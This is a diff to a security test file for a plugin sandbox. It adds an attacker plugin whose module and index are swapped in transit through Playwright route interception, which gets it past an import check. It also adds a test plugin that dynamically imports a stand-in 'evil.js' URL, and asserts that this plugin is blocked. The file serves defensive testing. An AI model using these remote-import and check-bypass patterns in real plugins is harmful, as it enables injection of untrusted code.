@@ -1,3 +1,5 @@
+import { createHash } from 'node:crypto';
+import type { Page } from 'playwright';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { App, type Files } from '../kit/app.ts';
 import { collect, type Collector } from './collector.ts';
@@ -19,8 +21,14 @@ const attacker: Files = {
       commands: ['attack.run', 'attack.echo', 'attack.ready'].map((command) => ({ command, title: command })),
     },
   },
-  'main.js': `
-import * as irintai from 'irintai';
+  'main.js': "import * as irintai from 'irintai';\n",
+};
+
+/**
+ * The code that really runs. Its import() would be refused when it is found, so it is slipped in past that check: the index and the
+ * module are exchanged on their way to the page, as if the server had been fooled. What stops it then is the cell.
+ */
+const attackCode = `import * as irintai from 'irintai';
 const probes = [
 ${probes.map(({ body }) => `  async (port) => { ${body} },`).join('\n')}
 ];
@@ -36,7 +44,28 @@ export function activate(context) {
     }
   });
 }
-`,
+`;
+
+async function slipIn(page: Page): Promise<void> {
+  const hash = createHash('sha256').update(attackCode).digest('hex');
+  const start = attackCode.indexOf("'irintai'") + 1;
+  await page.route('**/irintai/plugins', async (route) => {
+    const response = await route.fetch();
+    const index = (await response.json()) as { plugins: { id: string; base: string; main?: object }[] };
+    const target = index.plugins.find(({ id }) => id === 'test.attacker');
+    if (target) Object.assign(target, { main: { path: 'main.js', hash, imports: [[start, start + 7]] } });
+    await route.fulfill({ response, json: index });
+    await page.route(`**${target?.base}main.js*`, (file) =>
+      file.fulfill({ body: attackCode, contentType: 'text/javascript' }),
+    );
+  });
+}
+
+/** As an attacker would first try it: refused when it is found. */
+const imports: Files = {
+  'plugin.json': { name: 'Imports', id: 'test.imports', version: '1.0.0', type: 'processing', main: './main.js' },
+  'main.js':
+    "import { commands } from 'irintai';\nexport const activate = () => import('http://127.0.0.1:1/evil.js');\n",
 };
 
 const victim: Files = {
@@ -67,7 +96,8 @@ let collector: Collector;
 
 beforeAll(async () => {
   collector = await collect();
-  app = await App.start({ plugins: { attacker, victim, ...hostilePlugins() } });
+  app = await App.start({ plugins: { attacker, victim, imports, ...hostilePlugins() } });
+  await slipIn(app.page);
   await app.open();
 });
 
@@ -123,6 +153,12 @@ describe('inside a cell', () => {
     expect(policy).toMatch(/script-src 'sha256-[^']+' blob:(;|$)/);
     expect(policy).not.toMatch(/connect-src|unsafe-inline|unsafe-eval|allow-same-origin/);
   });
+});
+
+test('A7: code that imports anything but the API is refused before it could run', async () => {
+  const plugin = await app.page.evaluate(() => window.irintai.plugins.list().find(({ id }) => id === 'test.imports'));
+  expect(plugin?.state).toBe('blocked');
+  expect(plugin?.problems).toEqual([expect.objectContaining({ file: 'main.js', line: 2, severity: 'error' })]);
 });
 
 describe('using up what is shared', () => {
